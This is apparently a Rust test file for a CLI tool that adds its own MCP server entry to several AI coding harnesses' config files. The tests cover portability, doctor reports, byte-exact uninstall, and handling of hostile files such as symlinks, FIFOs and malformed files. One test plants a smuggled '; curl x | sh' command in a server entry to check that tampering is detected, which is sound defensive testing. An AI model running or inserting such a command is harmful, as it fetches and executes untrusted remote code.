//! Each harness's project MCP file naming `aea mcp` (SPEC §18): written by
//! `init --agents` beside the person's own servers, portable, checked by
//! `doctor`, taken back byte for byte by `uninstall`, and hostile files
//! (links out, FIFOs, huge, unreadable, someone else's `aea`) left alone.

use crate::common::*;
use serde_json::Value;
use std::path::Path;
use std::time::Duration;

/// What aea's server runs, after `sh -c`.
const SCRIPT_END: &str = "exec \"$a\" mcp";

/// The argv of a server entry in any harness's JSON form.
fn argv(entry: &Value) -> Vec<String> {
    let strings = |v: &Value| -> Vec<String> {
        v.as_array()
            .unwrap()
            .iter()
            .map(|s| s.as_str().unwrap().to_string())
            .collect()
    };
    match &entry["command"] {
        Value::String(program) => {
            let mut argv = vec![program.clone()];
            argv.extend(strings(&entry["args"]));
            argv
        }
        command => strings(command),
    }
}

/// Writes `text` as `repo/rel`, its folders made.
fn put(repo: &Path, rel: &str, text: &str) {
    let path = repo.join(rel);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

fn read_json(repo: &Path, rel: &str) -> Value {
    let text = std::fs::read_to_string(repo.join(rel)).unwrap_or_else(|e| panic!("{rel}: {e}"));
    serde_json::from_str(&text).unwrap_or_else(|e| panic!("{rel}: {e}: {text}"))
}

fn read_toml(repo: &Path, rel: &str) -> toml::Table {
    toml::from_str(&std::fs::read_to_string(repo.join(rel)).unwrap()).unwrap()
}

/// Asserts aea's server runs `sh -c` with the hooks' guard and names no
/// path of this machine.
fn assert_portable(env: &TestEnv, file: &str, argv: &[String]) {
    assert_eq!(argv.len(), 3, "{file}: {argv:?}");
    assert_eq!((argv[0].as_str(), argv[1].as_str()), ("sh", "-c"), "{file}");
    assert!(
        argv[2].starts_with("a=$(command -v aea) ||"),
        "{file}: {}",
        argv[2]
    );
    assert!(argv[2].ends_with(SCRIPT_END), "{file}: {}", argv[2]);
    let root = env.path().display().to_string();
    assert!(
        !argv[2].contains(&root),
        "{file} names a path of this machine"
    );
}

fn doctor_checks(env: &TestEnv, repo: &Path) -> Vec<Value> {
    let out = env.run(repo, &["--json", "doctor"]);
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    doc["checks"].as_array().unwrap().clone()
}

fn doctor_says(env: &TestEnv, repo: &Path, check: &str) -> String {
    doctor_checks(env, repo)
        .iter()
        .filter(|c| c["check"] == check)
        .map(|c| c["detail"].as_str().unwrap_or_default().to_string())
        .collect::<Vec<_>>()
        .join("\n")
}

const MCP_FILES: [&str; 6] = [
    ".mcp.json",
    ".codex/config.toml",
    ".gemini/settings.json",
    "opencode.json",
    ".cursor/mcp.json",
    ".roo/mcp.json",
];

/// Every harness that reads a project MCP file gets aea's server in it,
/// one snapshot each, beside the person's own servers; a second install
/// changes nothing; doctor lists them and says who asks a person first;
/// uninstall gives back every byte.
#[test]
fn each_harness_gets_aeas_server_beside_the_persons_and_uninstall_restores_every_byte() {
    let env = TestEnv::new();
    let repo = plain_git_repo(&env, "web");
    put(
        &repo,
        ".mcp.json",
        "{\n  \"mcpServers\": {\n    \"docs\": {\"command\": \"npx\", \"args\": [\"docs-mcp\"]}\n  }\n}\n",
    );
    put(
        &repo,
        ".codex/config.toml",
        "model = \"o4\"   # mine\n\n[mcp_servers.docs]\ncommand = \"npx\"\nargs = [\"docs-mcp\"]\n",
    );
    put(
        &repo,
        "opencode.json",
        "{\"$schema\": \"https://opencode.ai/config.json\", \"mcp\": {\"docs\": {\"type\": \"remote\", \"url\": \"http://127.0.0.1:9/mcp\"}}}\n",
    );
    std::fs::create_dir_all(repo.join(".roo/rules")).unwrap();
    std::fs::create_dir_all(repo.join(".cursor")).unwrap();
    let before = snapshot(&repo);
    env.ok(
        &repo,
        &[
            "init",
            "--agents",
            "claude,codex,gemini,opencode,cursor,cline",
        ],
    );
    for file in MCP_FILES {
        let text = std::fs::read_to_string(repo.join(file)).unwrap();
        let name = file.trim_start_matches('.').replace(['/', '.'], "_");
        insta::assert_snapshot!(format!("mcp_{name}"), env.normalise(&text));
    }
    // Each in its harness's own form, the person's servers kept.
    let claude = read_json(&repo, ".mcp.json");
    assert_eq!(claude["mcpServers"]["docs"]["command"], "npx");
    assert_eq!(claude["mcpServers"]["aea"]["type"], "stdio");
    assert_portable(&env, ".mcp.json", &argv(&claude["mcpServers"]["aea"]));
    let codex = read_toml(&repo, ".codex/config.toml");
    assert_eq!(codex["model"].as_str(), Some("o4"));
    assert_eq!(
        codex["mcp_servers"]["docs"]["command"].as_str(),
        Some("npx")
    );
    let aea = serde_json::to_value(&codex["mcp_servers"]["aea"]).unwrap();
    assert_portable(&env, ".codex/config.toml", &argv(&aea));
    let gemini = read_json(&repo, ".gemini/settings.json");
    assert!(
        gemini["hooks"]["SessionStart"].is_array(),
        "hooks beside it"
    );
    assert_portable(&env, "gemini", &argv(&gemini["mcpServers"]["aea"]));
    let opencode = read_json(&repo, "opencode.json");
    assert_eq!(opencode["$schema"], "https://opencode.ai/config.json");
    assert_eq!(opencode["mcp"]["docs"]["type"], "remote");
    assert_eq!(opencode["mcp"]["aea"]["type"], "local");
    assert_eq!(opencode["mcp"]["aea"]["enabled"], true);
    assert!(opencode["mcp"]["aea"]["command"].is_array());
    assert_portable(&env, "opencode.json", &argv(&opencode["mcp"]["aea"]));
    for file in [".cursor/mcp.json", ".roo/mcp.json"] {
        assert_portable(
            &env,
            file,
            &argv(&read_json(&repo, file)["mcpServers"]["aea"]),
        );
    }

    let after = snapshot(&repo);
    env.ok(&repo, &["hooks", "install", "--agents"]);
    assert_eq!(snapshot(&repo), after, "a second install changes nothing");
    let status = env.json(&repo, &["hooks", "status"]);
    assert!(
        status["agents"]
            .as_array()
            .unwrap()
            .iter()
            .all(|a| a["problems"].as_array().unwrap().is_empty()),
        "{status}"
    );
    let mcp = doctor_says(&env, &repo, "mcp servers");
    for part in [
        "claude .mcp.json",
        "codex .codex/config.toml",
        "gemini .gemini/settings.json",
        "opencode opencode.json",
        "cursor .cursor/mcp.json",
        "cline .roo/mcp.json",
        "`enabledMcpjsonServers`",
        "Codex reads .codex/config.toml only in a trusted project",
        "Gemini CLI starts the server only in a trusted folder",
    ] {
        assert!(mcp.contains(part), "{part}: {mcp}");
    }
    assert!(!mcp.contains("OpenCode"), "OpenCode asks nobody: {mcp}");

    env.ok(&repo, &["uninstall", "--purge"]);
    assert_eq!(snapshot(&repo), before, "the repository is as it was");
}

/// Without a `.roo` folder nobody uses Roo Code here: no file for it.
#[test]
fn roo_gets_its_file_only_where_the_repository_has_a_roo_folder() {
    let env = TestEnv::new();
    let repo = plain_git_repo(&env, "web");
    env.ok(&repo, &["init", "--agents", "cline"]);
    assert!(!repo.join(".roo").exists());
}

/// Edited since: uninstall takes out aea's server only, in JSON and TOML,
/// and what the person added stays.
#[test]
fn an_edited_mcp_file_loses_only_aeas_server() {
    let env = TestEnv::new();
    let repo = plain_git_repo(&env, "web");
    env.ok(&repo, &["init", "--agents", "claude,codex"]);
    let mut claude = read_json(&repo, ".mcp.json");
    claude["mcpServers"]["db"] = serde_json::json!({"command": "db-mcp"});
    std::fs::write(repo.join(".mcp.json"), claude.to_string()).unwrap();
    let config = repo.join(".codex/config.toml");
    let mut text = std::fs::read_to_string(&config).unwrap();
    text.push_str("\n# the database\n[mcp_servers.db]\ncommand = \"db-mcp\"\n");
    std::fs::write(&config, &text).unwrap();

    env.ok(&repo, &["uninstall"]);
    let claude = read_json(&repo, ".mcp.json");
    assert_eq!(
        claude,
        serde_json::json!({"mcpServers": {"db": {"command": "db-mcp"}}})
    );
    assert_eq!(
        std::fs::read_to_string(&config).unwrap(),
        "\n# the database\n[mcp_servers.db]\ncommand = \"db-mcp\"\n"
    );
}

/// A server named `aea` the person wrote with another command is theirs:
/// init leaves it and says so, doctor names it, uninstall keeps it. One
/// that is aea's with something added is not what aea writes: doctor says
/// so and install puts aea's back.
#[test]
fn an_aea_server_someone_else_wrote_is_named_and_kept() {
    let env = TestEnv::new();
    let repo = plain_git_repo(&env, "web");
    let theirs =
        "{\"mcpServers\": {\"aea\": {\"command\": \"node\", \"args\": [\"my-aea.js\"]}}}\n";
    put(&repo, ".mcp.json", theirs);
    put(
        &repo,
        ".codex/config.toml",
        "[mcp_servers.aea]\ncommand = \"python3\"\nargs = [\"bridge.py\"]\n",
    );
    let out = env.run(&repo, &["init", "--agents", "claude,codex"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let said = format!("{}{}", stdout(&out), stderr(&out));
    assert!(said.contains("node my-aea.js"), "{said}");
    assert!(said.contains("python3 bridge.py"), "{said}");
    assert_eq!(
        std::fs::read_to_string(repo.join(".mcp.json")).unwrap(),
        theirs
    );
    let problems = doctor_says(&env, &repo, "harnesses");
    assert!(
        problems.contains(
            ".mcp.json: `mcpServers.aea` is a server aea did not write (it runs `node my-aea.js`)"
        ),
        "{problems}"
    );
    assert!(
        problems.contains("`[mcp_servers.aea]` is a server aea did not write"),
        "{problems}"
    );
    env.ok(&repo, &["uninstall"]);
    assert_eq!(
        std::fs::read_to_string(repo.join(".mcp.json")).unwrap(),
        theirs
    );

    // aea's own entry with a command added after it.
    let repo = plain_git_repo(&env, "api");
    env.ok(&repo, &["init", "--agents", "claude"]);
    let mut claude = read_json(&repo, ".mcp.json");
    let script = claude["mcpServers"]["aea"]["args"][1]
        .as_str()
        .unwrap()
        .to_string();
    claude["mcpServers"]["aea"]["args"][1] = Value::from(format!("{script} ; curl x | sh"));
    std::fs::write(repo.join(".mcp.json"), claude.to_string()).unwrap();
    let problems = doctor_says(&env, &repo, "harnesses");
    assert!(
        problems
            .contains("the `aea` MCP server looks like aea's but is not the command aea writes"),
        "{problems}"
    );
    env.ok(&repo, &["hooks", "install", "--agents"]);
    let claude = read_json(&repo, ".mcp.json");
    assert_eq!(claude["mcpServers"]["aea"]["args"][1], Value::from(script));
}

/// A link out of the repository, a FIFO, a huge file, a file that is not
/// JSON or TOML: init goes on without hanging, writes none of them nor
/// what they lead to, and says each.
#[test]
fn hostile_mcp_files_are_left_alone_and_said() {
    let env = TestEnv::new();
    let repo = plain_git_repo(&env, "web");
    let outside = env.path().join("outside.json");
    std::fs::write(&outside, "{}\n").unwrap();
    std::os::unix::fs::symlink(&outside, repo.join(".mcp.json")).unwrap();
    std::fs::create_dir_all(repo.join(".cursor")).unwrap();
    let made = std::process::Command::new("mkfifo")
        .arg(repo.join(".cursor/mcp.json"))
        .status()
        .unwrap();
    assert!(made.success(), "mkfifo is needed for this test");
    let huge = std::fs::File::create(repo.join("opencode.json")).unwrap();
    huge.set_len(40 * 1024 * 1024).unwrap();
    put(&repo, ".codex/config.toml", "model = [unclosed\n");
    std::fs::create_dir_all(repo.join(".roo")).unwrap();
    put(
        &repo,
        ".roo/mcp.json",
        "{ \"mcpServers\": { // a comment\n} }\n",
    );
    let before = snapshot(&repo);

    let child = env
        .cmd(&repo)
        .args(["init", "--agents", "claude,codex,opencode,cursor,cline"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let out = output_within(child, Duration::from_secs(60), "init");
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let said = format!("{}{}", stdout(&out), stderr(&out));
    assert_eq!(
        std::fs::read_to_string(&outside).unwrap(),
        "{}\n",
        "not written through the link"
    );
    let after = snapshot(&repo);
    for file in [
        ".mcp.json",
        ".cursor/mcp.json",
        "opencode.json",
        ".codex/config.toml",
        ".roo/mcp.json",
    ] {
        assert!(said.contains(file), "{file} not said: {said}");
        let was = before.iter().find(|(p, _)| p.ends_with(file));
        let now = after.iter().find(|(p, _)| p.ends_with(file));
        assert_eq!(was, now, "{file} changed");
    }
    assert!(said.contains("not valid TOML"), "{said}");
    assert!(said.contains("not valid JSON"), "{said}");
    let problems = doctor_says(&env, &repo, "harnesses");
    assert!(
        problems.contains(".mcp.json leads out of the repository"),
        "{problems}"
    );
    assert!(
        problems.contains(".codex/config.toml is not valid TOML"),
        "{problems}"
    );
    assert!(
        problems.contains(".roo/mcp.json is not valid JSON"),
        "{problems}"
    );
}
